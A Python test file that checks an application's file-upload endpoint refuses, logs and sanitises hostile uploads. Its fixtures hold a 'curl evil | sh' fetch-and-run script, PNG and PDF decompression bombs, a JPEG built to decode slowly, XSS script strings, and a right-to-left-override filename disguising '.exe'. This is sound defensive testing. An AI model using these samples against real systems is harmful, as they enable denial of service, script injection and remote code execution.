"""Files of an application: told by their content; what is refused is recorded."""

import asyncio
import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import pytest
from PIL import Image
from PIL.PngImagePlugin import PngInfo

from server.wiring import Installation
from tests.applying import AT, begun, document, photo, read, step, upload, with_papers
from tests.cast import Person
from tests.problems import check_problem

SCRIPT = b"#!/bin/sh\ncurl evil | sh\n"
FIVE_GB = 5 * 1024**3


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def bomb() -> bytes:
    """A PNG of few bytes that says it has 3.6 thousand million pixels."""
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0))
    rows = chunk(b"IDAT", zlib.compress(b"\0" * 100_000))
    return b"\x89PNG\r\n\x1a\n" + head + rows + chunk(b"IEND", b"")


def scanned_over_and_over() -> bytes:
    """A progressive JPEG whose last scan comes 3,000 times: a minute to decode."""
    made = io.BytesIO()
    Image.new("L", (4000, 4000), 128).save(made, "JPEG", progressive=True)
    whole = made.getvalue()
    scan = whole[whole.rindex(b"\xff\xda") : -2]
    return whole[:-2] + scan * 3_000 + whole[-2:]


def mistaken() -> bytes:
    """A PNG whose text is called as Pillow calls something else."""
    said = PngInfo()
    said.add_itxt("exif", "x")
    made = io.BytesIO()
    Image.new("RGB", (40, 40)).save(made, "PNG", pnginfo=said)
    return made.getvalue()


def unpacked_to_a_gigabyte() -> bytes:
    """A PDF of two kilobytes whose objects are in a stream that is packed twice."""
    said = b"<</Type /Catalog /Pages 2 0 R>>"
    packer = zlib.compressobj(9)
    packed = packer.compress(b"1 0 " + said)
    packed += b"".join(packer.compress(b" " * 2**20) for _ in range(900)) + packer.flush()
    packed = zlib.compress(packed, 9)
    made = b"%PDF-1.7\n"
    where = [len(made)]
    made += b"2 0 obj <</Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode] "
    made += b"/Length %d>>\nstream\n%s\nendstream endobj\n" % (len(packed), packed)
    where.append(len(made))
    rows = b"".join(
        struct.pack(">BIB", *row)
        for row in ((0, 0, 255), (2, 2, 0), (1, where[0], 0), (1, where[1], 0))
    )
    made += b"3 0 obj <</Type /XRef /Size 4 /W [1 4 1] /Root 1 0 R /Length %d>>" % len(rows)
    made += b"\nstream\n%s\nendstream endobj\n" % rows
    return made + b"startxref\n%d\n%%%%EOF\n" % where[1]


def placed() -> bytes:
    """A photograph that tells where it was taken, on its side."""
    image = Image.new("RGB", (60, 30), "red")
    exif = image.getexif()
    exif[0x0112] = 6
    exif.get_ifd(0x8825)[1] = "N"
    made = io.BytesIO()
    image.save(made, "JPEG", exif=exif, comment=b"<script>alert(2)</script>")
    return made.getvalue() + b"<script>alert(1)</script>"


async def kept(installation: Installation, one: dict[str, Any]) -> int:
    """How many files of the application are kept."""
    chosen = {"application_id": one["id"]}
    return int(await installation.database["electricity_files"].count_documents(chosen))


@pytest.mark.parametrize(
    ("content", "name", "because"),
    [
        (SCRIPT, "执照.jpg", "wrong_type"),
        (b"<html><script>alert(1)</script></html>", "执照.png", "wrong_type"),
        (b"GIF89a" + b"\0" * 50, "执照.jpg", "wrong_type"),
        (photo(400, "PNG")[:-40], "执照.png", "broken"),
        (bomb(), "执照.png", "too_many_pixels"),
        (document(51), "执照.pdf", "too_many_pages"),
        (b"%PDF-1.7\nno objects", "执照.pdf", "broken"),
        (scanned_over_and_over, "执照.jpg", "too_many_scans"),
        (mistaken(), "执照.png", "broken"),
        (unpacked_to_a_gigabyte, "执照.pdf", "unreadable"),
    ],
    ids=[
        "script",
        "page",
        "gif",
        "broken image",
        "bomb",
        "long",
        "broken document",
        "scans",
        "mistaken",
        "unpacked",
    ],
)
async def test_a_file_that_is_not_what_may_be_handed_in_is_refused_and_recorded(
    alice: Person,
    installation: Installation,
    content: bytes | Callable[[], bytes],
    name: str,
    because: str,
) -> None:
    one = await begun(alice)
    # What takes long to make is made here: who only gathers the tests does not wait for it.
    sent = content if isinstance(content, bytes) else content()
    problem = check_problem(await upload(alice, one, "licence", sent, name), 422, "invalid")
    assert [(fault.pointer, fault.code) for fault in problem.errors] == [("/file", because)]
    assert (await read(alice, one))["materials"] == []
    assert await kept(installation, one) == 0
    events = installation.database["audit_events"]
    event = await events.find_one({"action": "electricity.file_refused", "object_id": one["id"]})
    assert event is not None
    assert event["facts"] == {"because": because}


async def test_an_image_is_made_anew_from_its_pixels(alice: Person) -> None:
    one = await with_papers(alice, await begun(alice), ())
    answer = await upload(alice, one, "licence", placed(), "C:\\照片\\门牌\u202e.exe")
    (material,) = answer.raise_for_status().json()["materials"]
    assert (material["media_type"], material["name"]) == ("image/jpeg", "门牌.exe")
    got = await alice.get(f"{AT}/{one['id']}/materials/{material['id']}")
    assert got.headers["Cache-Control"] == "private, no-store"
    assert got.headers["X-Content-Type-Options"] == "nosniff"
    assert got.headers["Content-Disposition"].startswith("attachment;")
    assert b"script" not in got.content
    with Image.open(io.BytesIO(got.content)) as image:
        assert image.size == (30, 60)
        assert dict(image.getexif()) == {}


async def test_a_document_comes_back_as_it_was(alice: Person, charlie: Person) -> None:
    one = await begun(alice)
    pdf = document(3)
    (material,) = (await upload(alice, one, "devices", pdf, "清单.pdf")).json()["materials"]
    path = f"{AT}/{one['id']}/materials/{material['id']}"
    assert (await alice.get(path)).content == pdf
    check_problem(await charlie.get(path), 404, "not_found")
    other = await begun(alice)
    check_problem(
        await alice.get(f"{AT}/{other['id']}/materials/{material['id']}"), 404, "not_found"
    )
    assert (await alice.send("DELETE", path)).status_code == 204
    check_problem(await alice.get(path), 404, "not_found")


async def test_a_file_is_for_a_paper_that_is_wanted(alice: Person) -> None:
    one = await begun(alice)
    problem = check_problem(await upload(alice, one, "door_photo"), 422, "invalid")
    assert problem.errors[0].pointer == "/query/paper"
    answer = await alice.post(AT, {"subject_id": alice.subject_id})
    check_problem(await upload(alice, answer.json(), "licence"), 409, "conflict")


async def test_as_many_photographs_as_a_phone_chooses_come_at_once(alice: Person) -> None:
    one = await begun(alice)
    answers = await asyncio.gather(*(upload(alice, one, "licence") for _ in range(9)))
    assert {answer.status_code for answer in answers} == {201}
    assert len((await read(alice, one))["materials"]) == 9


async def test_only_so_many_files_are_taken(alice: Person) -> None:
    one = await with_papers(alice, await begun(alice), ("licence",) * 20)
    check_problem(await upload(alice, one, "licence"), 409, "conflict")
    assert len((await read(alice, one))["materials"]) == 20


async def test_an_upload_repeated_under_its_key_is_one_file(alice: Person) -> None:
    one = await begun(alice)
    first = await upload(alice, one, "licence", key="upload-0001")
    again = await upload(alice, one, "licence", key="upload-0001")
    assert again.json() == first.json()
    assert len((await read(alice, one))["materials"]) == 1
    other = await upload(alice, one, "licence", photo(41), key="upload-0001")
    check_problem(other, 422, "idempotency_key_reused")


def head_of(person: Person, one: dict[str, Any], length: str) -> bytes:
    """The head of an upload by hand."""
    return (
        f"POST {AT}/{one['id']}/materials?paper=licence HTTP/1.1\r\nHost: test\r\n"
        f"Idempotency-Key: by-hand-0001\r\nAuthorization: {person.headers['Authorization']}\r\n"
        f"Content-Type: multipart/form-data; boundary=x\r\n{length}\r\n\r\n"
    ).encode()


async def test_five_gigabytes_are_refused_by_their_header(alice: Person, api: str) -> None:
    one = await begun(alice)
    host, port = api.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(head_of(alice, one, f"Content-Length: {FIVE_GB}"))
    answer = await reader.readuntil(b"}")
    writer.close()
    assert b" 413 " in answer.split(b"\r\n")[0]
    assert b"10 MB" in answer


async def test_five_gigabytes_are_refused_while_they_stream(
    alice: Person, api: str, installation: Installation
) -> None:
    """Without a length: chunk after chunk, until it is too much."""
    one = await begun(alice)
    host, port = api.removeprefix("http://").split(":")
    reader, writer = await asyncio.open_connection(host, int(port))
    writer.write(head_of(alice, one, "Transfer-Encoding: chunked"))
    part = b'--x\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
    writer.write(b"%x\r\n%s\r\n" % (len(part), part))
    answered = asyncio.create_task(reader.readuntil(b"}"))
    megabyte, sent = b"100000\r\n" + b"\0" * 2**20 + b"\r\n", 0
    while not answered.done():
        assert sent < FIVE_GB / 2**20
        writer.write(megabyte)
        await writer.drain()
        sent += 1
    answer = await answered
    writer.close()
    assert b" 413 " in answer.split(b"\r\n")[0]
    assert sent >= 10
    assert await kept(installation, one) == 0


async def test_a_file_of_one_byte_too_many_is_too_large(alice: Person) -> None:
    one = await begun(alice)
    answer = await upload(alice, one, "licence", b"\0" * (10 * 1024 * 1024 + 20_000))
    check_problem(answer, 413, "too_large")


async def test_files_of_a_draft_go_with_it(alice: Person, installation: Installation) -> None:
    one = await with_papers(alice, await begun(alice))
    assert await kept(installation, one) == 2
    assert (await alice.send("DELETE", f"{AT}/{one['id']}")).status_code == 204
    assert await kept(installation, one) == 0


async def test_what_was_handed_in_is_not_taken_out_again(alice: Person) -> None:
    one = await with_papers(alice, await begun(alice))
    report = {"report_id": (await alice.report())["id"]}
    one = (await step(alice, one, "submission", report)).raise_for_status().json()
    assert one["state"] == "report_ok"
    first = one["materials"][0]
    path = f"{AT}/{one['id']}/materials/{first['id']}"
    assert (await alice.send("DELETE", path)).status_code == 204
    one = (await step(alice, one, "withdrawal", {})).raise_for_status().json()
    path = f"{AT}/{one['id']}/materials/{one['materials'][0]['id']}"
    check_problem(await alice.send("DELETE", path), 409, "conflict")
    check_problem(await upload(alice, one, "licence"), 409, "conflict")
